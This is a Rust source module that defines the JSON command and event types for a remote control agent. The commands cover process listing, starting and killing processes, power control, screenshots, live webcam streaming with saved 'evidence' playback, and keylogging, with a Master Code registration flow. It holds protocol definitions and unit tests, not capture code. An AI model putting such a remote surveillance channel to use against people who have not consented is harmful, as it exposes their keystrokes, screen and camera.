//! Wire types for the control channel.
//!
//! Inbound frames are `{"command": "<Name>", "args": {...}}`; outbound frames are
//! `{"event": "<Name>", ...}`. Both are plain JSON text frames.

use base64::Engine;
use base64::engine::general_purpose::STANDARD;
use serde::{Deserialize, Serialize};

use crate::identity::AuthState;

#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(tag = "command", content = "args")]
pub enum Command {
    GetServerStatus,
    GetServerStatusSilent,
    SubmitSetupCode { code: String },
    RegisterUser { username: String, password: String },
    Login { username: String, password: String },
    Logout,
    GetProcessList {
        #[serde(default, rename = "appsOnly")]
        apps_only: bool,
    },
    StartProcess { path: String },
    KillProcess { id: u32 },
    ShutdownServer {
        #[serde(default)]
        restart: bool,
    },
    GetScreenshot,
    StartWebcamLive {
        #[serde(default)]
        fps: Option<u32>,
    },
    StopWebcamLive,
    /// Older clients: same as `StartWebcamLive` at 10 fps.
    RequestWebcam,
    /// Older clients: same as `StopWebcamLive`.
    CloseWebcam,
    GetWebcamProofList,
    PlayWebcamProof {
        #[serde(default)]
        id: String,
    },
    StartKeyLogger,
    StopKeyLogger,
    /// Key fragment captured by a page running on the agent host itself.
    SubmitCapturedKey { data: String },
}

impl Command {
    /// Commands outside the provisioning flow need an authenticated session.
    pub fn requires_auth(&self) -> bool {
        !matches!(
            self,
            Command::GetServerStatus
                | Command::GetServerStatusSilent
                | Command::SubmitSetupCode { .. }
                | Command::RegisterUser { .. }
                | Command::Login { .. }
                | Command::SubmitCapturedKey { .. }
        )
    }

    pub fn name(&self) -> &'static str {
        match self {
            Command::GetServerStatus => "GetServerStatus",
            Command::GetServerStatusSilent => "GetServerStatusSilent",
            Command::SubmitSetupCode { .. } => "SubmitSetupCode",
            Command::RegisterUser { .. } => "RegisterUser",
            Command::Login { .. } => "Login",
            Command::Logout => "Logout",
            Command::GetProcessList { .. } => "GetProcessList",
            Command::StartProcess { .. } => "StartProcess",
            Command::KillProcess { .. } => "KillProcess",
            Command::ShutdownServer { .. } => "ShutdownServer",
            Command::GetScreenshot => "GetScreenshot",
            Command::StartWebcamLive { .. } => "StartWebcamLive",
            Command::StopWebcamLive => "StopWebcamLive",
            Command::RequestWebcam => "RequestWebcam",
            Command::CloseWebcam => "CloseWebcam",
            Command::GetWebcamProofList => "GetWebcamProofList",
            Command::PlayWebcamProof { .. } => "PlayWebcamProof",
            Command::StartKeyLogger => "StartKeyLogger",
            Command::StopKeyLogger => "StopKeyLogger",
            Command::SubmitCapturedKey { .. } => "SubmitCapturedKey",
        }
    }

    /// Status category used when the handler fails without a more specific one.
    pub fn status_kind(&self) -> StatusKind {
        match self {
            Command::GetServerStatus | Command::GetServerStatusSilent => StatusKind::ServerStatus,
            Command::SubmitSetupCode { .. } | Command::RegisterUser { .. } | Command::Login { .. } | Command::Logout => StatusKind::Auth,
            Command::GetProcessList { .. } => StatusKind::App,
            Command::StartProcess { .. } => StatusKind::Start,
            Command::KillProcess { .. } => StatusKind::Kill,
            Command::ShutdownServer { .. } => StatusKind::Power,
            Command::GetScreenshot => StatusKind::Screenshot,
            Command::StartWebcamLive { .. }
            | Command::StopWebcamLive
            | Command::RequestWebcam
            | Command::CloseWebcam
            | Command::GetWebcamProofList
            | Command::PlayWebcamProof { .. } => StatusKind::Webcam,
            Command::StartKeyLogger | Command::StopKeyLogger | Command::SubmitCapturedKey { .. } => StatusKind::Keylog,
        }
    }
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "SCREAMING_SNAKE_CASE")]
pub enum StatusKind {
    Auth,
    App,
    Keylog,
    Screenshot,
    Webcam,
    System,
    Start,
    Kill,
    Power,
    ServerStatus,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "SCREAMING_SNAKE_CASE")]
pub enum ImageKind {
    Screenshot,
    WebcamLive,
    WebcamProofFrame,
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(tag = "event")]
pub enum Event {
    ReceiveServerStatus { status: AuthState },
    ReceiveStatus { kind: StatusKind, success: bool, message: String },
    /// `data` is standard base64 of the encoded image.
    ReceiveImage { kind: ImageKind, data: String },
    ReceiveKeyLog { text: String },
    ReceiveProcessList { json: String },
    ReceiveWebcamProofList { json: String },
    ReceiveAuthToken { token: String },
}

impl Event {
    pub fn status(kind: StatusKind, success: bool, message: impl Into<String>) -> Self {
        Event::ReceiveStatus { kind, success, message: message.into() }
    }

    pub fn image(kind: ImageKind, bytes: &[u8]) -> Self {
        Event::ReceiveImage { kind, data: STANDARD.encode(bytes) }
    }

    pub fn server_status(status: AuthState) -> Self { Event::ReceiveServerStatus { status } }

    pub fn key_log(text: impl Into<String>) -> Self { Event::ReceiveKeyLog { text: text.into() } }

    /// Decoded image payload, if this is an image event.
    pub fn image_bytes(&self) -> Option<Vec<u8>> {
        match self {
            Event::ReceiveImage { data, .. } => STANDARD.decode(data).ok(),
            _ => None,
        }
    }
}

/// Operator-facing message texts.
pub mod msg {
    pub const CONNECTED: &str = "Connection successful.";

    pub const STATUS_AUTHENTICATED: &str = "Authenticated. Ready to control.";
    pub const STATUS_REGISTRATION: &str = "Master Code verified. Please complete account registration.";
    pub const STATUS_LOGIN: &str = "Please log in or enter the Master Code to register.";

    pub const SETUP_CODE_ACCEPTED: &str = "Master code verified. Please register a new account.";
    pub const SETUP_CODE_INVALID: &str = "Master Code is not correct.";
    pub const REGISTRATION_NOT_ALLOWED: &str = "You must enter the Master Code before registering a new account.";
    pub const REGISTRATION_EXPIRED: &str = "The registration session has expired. Please re-enter the Master Code.";
    pub const INVALID_USERNAME: &str = "Invalid username (3–32 characters, letters/numbers only, and . _ - are allowed).";
    pub const INVALID_PASSWORD: &str = "Invalid password (minimum 8 characters).";
    pub const REGISTRATION_FAILED: &str = "Registration failed. Please try again.";
    pub const USERNAME_TAKEN: &str = "Username already exists.";
    pub const INVALID_CREDENTIALS: &str = "Incorrect username or password.";
    pub const LOGGED_OUT: &str = "Logged out.";

    pub const START_OK: &str = "Open command sent";
    pub const START_FAILED: &str = "File open error";
    pub const KILL_OK: &str = "Successfully terminated";
    pub const KILL_FAILED: &str = "Cannot terminate";
    pub const POWER: &str = "Executing Power command......";

    pub const WEBCAM_RUNNING: &str = "Webcam is running.";
    pub const WEBCAM_STARTED: &str = "Webcam live has started.";
    pub const WEBCAM_START_FAILED: &str = "Unable to enable the webcam live.";
    pub const WEBCAM_STOPPING: &str = "Stopping the webcam (evidence will be saved immediately)...";
    pub const WEBCAM_OFF_NO_EVIDENCE: &str = "Webcam turned off (no evidence recorded).";
    pub const NO_EVIDENCE_SELECTED: &str = "No evidence selected.";
    pub const EVIDENCE_NOT_FOUND: &str = "Evidence not found.";
    pub const PLAYBACK_COMPLETED: &str = "Playback completed.";

    pub const KEYLOG_ENABLED_BANNER: &str = "\n--- keylog session enabled ---\n";
    pub const KEYLOG_DISABLED_BANNER: &str = "\n--- keylog session disabled ---\n";
    pub const KEYLOG_STOPPED: &str = "Keylogger has stopped.";

    pub const COMMAND_FAILED: &str = "Command failed on the agent.";
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn parses_adjacently_tagged_commands() {
        let c: Command = serde_json::from_str(r#"{"command":"GetServerStatus"}"#).unwrap();
        assert_eq!(c, Command::GetServerStatus);
        let c: Command = serde_json::from_str(r#"{"command":"GetProcessList","args":{"appsOnly":true}}"#).unwrap();
        assert_eq!(c, Command::GetProcessList { apps_only: true });
        let c: Command = serde_json::from_str(r#"{"command":"StartWebcamLive","args":{}}"#).unwrap();
        assert_eq!(c, Command::StartWebcamLive { fps: None });
        assert!(serde_json::from_str::<Command>(r#"{"command":"DropTables"}"#).is_err());
    }

    #[test]
    fn gating_table() {
        assert!(!Command::Login { username: "a".into(), password: "b".into() }.requires_auth());
        assert!(!Command::SubmitCapturedKey { data: "a".into() }.requires_auth());
        assert!(Command::Logout.requires_auth());
        assert!(Command::CloseWebcam.requires_auth());
        assert!(Command::KillProcess { id: 1 }.requires_auth());
    }

    #[test]
    fn event_wire_shape() {
        let v = serde_json::to_value(Event::status(StatusKind::ServerStatus, true, "x")).unwrap();
        assert_eq!(v, serde_json::json!({"event":"ReceiveStatus","kind":"SERVER_STATUS","success":true,"message":"x"}));
        let v = serde_json::to_value(Event::server_status(AuthState::RegistrationRequired)).unwrap();
        assert_eq!(v, serde_json::json!({"event":"ReceiveServerStatus","status":"REGISTRATION_REQUIRED"}));
        let img = Event::image(ImageKind::WebcamProofFrame, &[0xff, 0xd8]);
        assert_eq!(img.image_bytes().unwrap(), vec![0xff, 0xd8]);
    }
}
